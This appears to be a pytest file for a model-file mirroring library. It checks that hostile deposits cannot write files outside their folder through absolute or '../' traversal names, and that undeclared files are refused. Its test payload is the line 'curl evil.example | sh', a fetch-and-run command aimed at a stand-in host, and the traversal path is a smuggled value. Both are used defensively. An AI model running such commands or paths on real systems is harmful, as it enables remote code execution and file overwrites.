"""A model that a hostile customer deposited, taken over by somebody: its files go into one folder, or nowhere."""

from __future__ import annotations

import asyncio
import hashlib
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from connito.client import mirror
from connito.client.mirror import shelve
from connito.errors import Invalid, VerificationFailed
from connito.library.governance import Viewer
from connito.library.schema import read_record
from connito.library.shelf import Shelf
from connito.platform.session import Session
from connito.v1.artifacts_pb2 import ArtifactRef
from connito.v1.services_pb2 import ExpertSummary
from connito.wire.roster import Roster

from tests.support.library import expert_record

DATA = b"curl evil.example | sh"
DIGEST = hashlib.sha256(DATA).hexdigest()


def take(record: dict[str, Any], folder: Path, named: str = DIGEST) -> None:
    (folder / "payload").write_bytes(DATA)

    async def fetch(ref: ArtifactRef) -> Path:
        return folder / "payload"

    read = read_record(json.dumps(record), "the record")
    said = ExpertSummary(expert_id=read["expert_id"], files=[ArtifactRef(digest=named, size=len(DATA))])
    asyncio.run(shelve(Shelf(folder / "shelf"), said, read, fetch, 1, None))


def model(name: str) -> dict[str, Any]:
    return {
        **expert_record("law-1", "law"),
        "format": "connito-model/1",
        "files": {name: {"digest": DIGEST, "bytes": len(DATA)}},
    }


def test_a_plain_name_arrives(tmp_path: Path) -> None:
    take(model("model.safetensors"), tmp_path)
    assert (tmp_path / "shelf/experts/law-1/model.safetensors").read_bytes() == DATA


def test_no_file_is_written_beside_the_expert(tmp_path: Path) -> None:
    target = tmp_path / "home" / "startup"
    target.parent.mkdir()
    for name in (str(target), f"../../../../../../../../../../../..{target}"):
        with pytest.raises(Invalid, match="plain name"):
            take(model(name), tmp_path)
        assert not target.exists()
        assert not target.is_symlink()


def test_what_the_library_did_not_name_is_not_taken(tmp_path: Path) -> None:
    with pytest.raises(VerificationFailed, match=r"names no file model\.safetensors"):
        take(model("model.safetensors"), tmp_path, "e" * 64)


def test_one_that_cannot_be_read_keeps_no_other_from_the_shelf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shelf, copied, eyes = Shelf(tmp_path), list[str](), set[Viewer]()

    class Log:
        async def last_record(self, _: str) -> None: ...

        async def stored(self, _: list[str]) -> AsyncIterator[object]:
            for record in list[object]():
                yield record

    @asynccontextmanager
    async def bus() -> AsyncIterator[Log]:
        yield Log()

    async def read(*_: object) -> object:
        return SimpleNamespace(runs={"run": SimpleNamespace(deposits={"damaged": "damaged", "whole": "whole"})})

    async def shelve_one(_store: object, _shelf: object, viewer: Viewer, deposit: str, _signed: object) -> None:
        if deposit == "damaged":
            raise Invalid("it is no record of a library expert")
        copied.append(deposit)
        eyes.add(viewer)

    monkeypatch.setattr(mirror, "read_log", read)
    monkeypatch.setattr(mirror, "_shelve", shelve_one)
    roster = Roster({}, organisations={"clinic": frozenset({"C"}), "bank": frozenset({"D"})})
    session = SimpleNamespace(identity=SimpleNamespace(public="C"), roster=roster, store=lambda: None, bus=bus)
    asyncio.run(mirror._copy(cast(Session, session), shelf))
    assert copied == ["whole"]
    assert eyes == {Viewer("C", frozenset({"clinic"}))}, "experts of the customer's organisations, too"
